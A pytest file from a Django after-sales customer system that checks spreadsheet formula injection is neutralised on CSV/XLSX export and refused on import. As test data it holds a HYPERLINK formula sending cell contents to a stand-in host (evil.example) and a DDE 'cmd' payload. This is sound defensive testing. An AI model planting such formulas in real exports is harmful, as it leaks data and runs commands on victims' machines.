"""Formula injection (R-CUS-7, R-SYS-2): exported text never runs as a spreadsheet formula, and an
import refuses text that starts like one (ADR 0009)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from aftersales.core.imports import exports, services
from aftersales.core.imports.models import ImportJob
from aftersales.customers.models import Customer

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'


@pytest.fixture
def hostile_customer(dealer_a):
    return Customer.objects.create(code="C1", name=HOSTILE, owning_dealer=dealer_a, primary_phone="+8613812340001",
                                   notes="@SUM(1+1)*cmd|' /C calc'!A0")


def _csv_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_export_neutralises_a_hyperlink_name(admin_user, hostile_customer, tmp_path):
    out = tmp_path / "c.csv"
    exports.export_to_path(actor=admin_user, kind="customers", params={}, fmt="csv", path=out)
    cells = [c for row in _csv_rows(out)[1:] for c in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_xlsx_export_writes_a_hyperlink_name_as_a_text_cell(admin_user, hostile_customer, tmp_path):
    out = tmp_path / "c.xlsx"
    exports.export_to_path(actor=admin_user, kind="customers", params={}, fmt="xlsx", path=out)
    sheet = load_workbook(out).active
    name_cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert name_cells, "the name is kept exactly as entered"
    assert all(c.data_type == "s" for c in name_cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_every_formula_trigger_is_neutralised_in_csv(text):
    raw = b"".join(exports.csv_stream(["名称"], [[text]])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(raw, newline="")))[1] == ["'" + text]


def test_plain_text_and_numbers_are_left_alone():
    raw = b"".join(exports.csv_stream(["a", "b", "c"], [["张伟", -5, "C-1"]])).decode("utf-8-sig")
    assert raw.splitlines()[1] == "张伟,-5,C-1"


HEADER = "客户编号,客户类型,姓名,手机,其他电话,省,市,区,详细地址,负责人,所属经销商代码,来源,标签,备注\n"


def test_import_refuses_a_name_that_starts_like_a_formula(admin_user, dealer_a):
    body = (HEADER + ",个人,张伟,13812345678,,,,,,,T-DA,,,\n"
            + ',个人,"=HYPERLINK(""http://x"",""y"")",13912345678,,,,,,,T-DA,,,\n'
            + ",个人,李四,13712345678,,,,,,,T-DA,,,@备注\n")
    job = services.import_start(actor=admin_user, kind="customers", file=io.BytesIO(body.encode()),
                                filename="c.csv", enqueue=False)
    job = services.run_validation(job.pk)
    assert job.status == ImportJob.Status.VALIDATED
    assert (job.valid_rows, job.error_rows) == (1, 2)
    errors = {(e["row"], e["column"]) for e in job.result["first_errors"]}
    assert {(3, "姓名"), (4, "备注")} <= errors
    with open(job.error_report.path, encoding="utf-8-sig", newline="") as fh:
        report = list(csv.reader(fh))
    assert all(not cell.startswith("=") for row in report for cell in row), "the error report is safe to open"
    services.import_apply(actor=admin_user, job=job, mode="valid_only", enqueue=False)
    services.run_apply(job.pk)
    assert list(Customer.objects.values_list("name", flat=True)) == ["张伟"]
